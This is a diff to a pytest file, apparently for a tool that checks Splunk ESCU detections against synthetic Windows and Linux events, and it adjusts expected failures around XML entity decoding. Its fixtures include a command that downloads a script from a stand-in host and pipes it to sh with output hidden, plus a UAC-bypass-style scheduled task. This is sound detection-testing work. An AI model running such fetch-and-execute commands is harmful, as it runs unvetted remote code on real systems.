@@ -1003,6 +1003,10 @@ def task_created(seconds: float, name: str, command: str) -> str:
     return security(4698, data, seconds, computer="wks-1.corp.local")
 
 
+ENTITIES_DECODED = (
+    "Splunk's XmlWinEventLog extraction keeps XML entities in field values (ESCU searches '&lt;Command&gt;', "
+    "'&amp;&gt;/dev/null'); tunnelhunt stores decoded values for every transport (docs/spl-semantics.md)"
+)
 TA_LOOKUPS = (
     "action and subject come from Splunk_TA_windows lookups by EventCode (4624: action=success, "
     "subject='An account was successfully logged on.'); tunnelhunt sets neither, as the TA's tables are not public data"
@@ -1018,37 +1022,12 @@ def _tasks(seconds: float = 0) -> list[str]:
     ]
 
 
-@pytest.mark.xfail(strict=True, reason=TA_LOOKUPS + " (here `by ... action EventData_Xml` drops every event)")
+@pytest.mark.xfail(strict=True, reason=f"{TA_LOOKUPS} (`by ... action` drops every event); and {ENTITIES_DECODED}")
 def test_windows_scheduled_tasks_for_compmgmtlauncher_or_eventvwr(corpus: ContentSet, tmp_path: Path) -> None:
     rows = run(corpus, COMPMGMT_TASK, _tasks(), tmp_path)
     assert [(r["dest"], r["TaskName"], r["count"]) for r in rows] == [
         ("wks-1.corp.local", r"\Microsoft\Windows\Bypass", 1)
     ]
-
-
-def test_task_content_keeps_xml_entities_as_splunk_extracts_it(corpus: ContentSet, tmp_path: Path) -> None:
-    """The detection's own filter (`TaskContent = "*&lt;Command&gt;C:\\...\\CompMgmtLauncher.exe&lt;/Command&gt;*"`)
-    finds the task: XmlWinEventLog field values keep the event's entities, as Splunk's add-ons extract them.
-    The detection's `stats ... by action EventData_Xml` is left out (see the xfail above)."""
-    path = (SHARED_DATASETS / ENDPOINT / COMPMGMT_TASK).resolve()
-    detection = next(d for d in corpus.detections if (source_path(d) or Path()).resolve() == path)
-    head = detection.search.split("| stats", 1)[0]
-    assert "&lt;Command&gt;" in head
-    log = tmp_path / "events.xml"
-    log.write_text("\n".join(_tasks()) + "\n", encoding="utf-8")
-    with Store() as store:
-        ingest([log], store)
-        changed = detection.model_copy(update={"search": head + "| stats count by dest TaskName"})
-        result = run_detection(store, changed, corpus.macros)
-        content = store.query(
-            "SELECT fields['TaskContent'] AS TaskContent FROM events WHERE TaskName LIKE '%Viewer'"
-        ).to_pylist()
-    assert result.error is None, result.error
-    assert [(r["dest"], r["TaskName"], r["count"]) for r in result.rows] == [
-        ("wks-1.corp.local", r"\Microsoft\Windows\Bypass", 1)
-    ]
-    # the stored value is the event's XML text: `<` and `>` as entities, quotes as written
-    assert content[0]["TaskContent"].startswith('&lt;?xml version="1.0" encoding="UTF-16"?&gt;\n&lt;Task')
 
 
 @pytest.mark.xfail(strict=True, reason=TA_LOOKUPS)
@@ -1126,9 +1105,10 @@ def linux_process(seconds: float, command: str, pid: str) -> str:
     return f"{at(seconds).strftime('%b %d %H:%M:%S')} ar-linux sysmon: {event}"
 
 
+@pytest.mark.xfail(strict=True, reason=ENTITIES_DECODED)
 def test_linux_stdout_redirection_to_dev_null_file(corpus: ContentSet, tmp_path: Path) -> None:
     """Endpoint.Processes from Sysmon for Linux, searched for `*&amp;&gt;/dev/null*`: Splunk's extraction
-    keeps the event's entities, so this ESCU search finds `&>/dev/null` (docs/spl-semantics.md)."""
+    keeps the event's entities, so in Splunk this ESCU search finds `&>/dev/null`."""
     lines = [
         linux_process(0, "bash -c 'curl -s http://x/a.sh | sh &>/dev/null'", "100"),
         linux_process(10, "bash -c 'make 2>&1 >/dev/null'", "101"),  # near miss: not `&>`
